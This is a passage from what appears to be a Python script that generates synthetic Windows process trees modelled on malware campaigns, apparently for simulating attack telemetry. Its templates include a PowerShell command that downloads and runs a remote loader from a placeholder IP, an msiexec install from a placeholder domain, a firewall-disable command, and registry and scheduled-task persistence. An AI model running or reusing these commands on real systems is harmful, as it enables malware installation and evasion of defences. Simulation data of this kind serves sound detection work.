    {p=60} "C:\Windows\system32\reg.exe" add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v @TASK@ /d C:\Users\@WUSER@\AppData\Roaming\@RN6@\client32.exe /f
''')
gang('click-fix', 'user:7 mshta:4', CLK, size=1.0, keep='TASK', oneoff=0.15)
RAS = dict(usb=r'''
{dur=2} "C:\Windows\system32\cmd.exe" /R type "@RN4@.bak"|cmd
  {dur=1} cmd
    {dur=1} explorer.exe USB DRIVE
    {dur=6} msiexec /Q/I "htTp://@DOM@:8080/@RT10@/@HOSTNAME@=@WUSER@"
      {dur=8} "C:\Windows\system32\rundll32.exe" SHELL32.DLL,ShellExec_RunDLLA REGSVR32.EXE /s C:\ProgramData\@RN6@\@RN8@.tmp
        {dur=2} "C:\Windows\System32\REGSVR32.EXE" /s C:\ProgramData\@RN6@\@RN8@.tmp
          {dur=900 a} "C:\Windows\system32\dllhost.exe"
          {p=60 dur=300 a} rundll32.exe
          {p=40} "C:\Windows\system32\fodhelper.exe"
''')
gang('berry-usb', 'usb:9', RAS, size=0.8, oneoff=0.3, keep='')
SRVW = dict(javaw=r'''
cmd.exe /c powershell iex ((New-Object System.Net.WebClient).DownloadString('http://@IP@:@PORT@/ldr.ps1'))
  {dur=5} powershell iex ((New-Object System.Net.WebClient).DownloadString('http://@IP@:@PORT@/ldr.ps1'))
    "C:\Windows\system32\netsh.exe" firewall set opmode disable
    {p=70} "C:\Windows\system32\taskkill.exe" /f /im @RIV1PROC@.exe
    "C:\Windows\system32\schtasks.exe" /create /tn BrowserUpdate /tr "C:\Users\Public\sys.exe" /sc minute /mo 30 /F
    {dur=40000 a} "C:\Users\Public\@RH8@.exe"
      {dur=39000} C:\Users\Public\kthreaddk.exe
''')
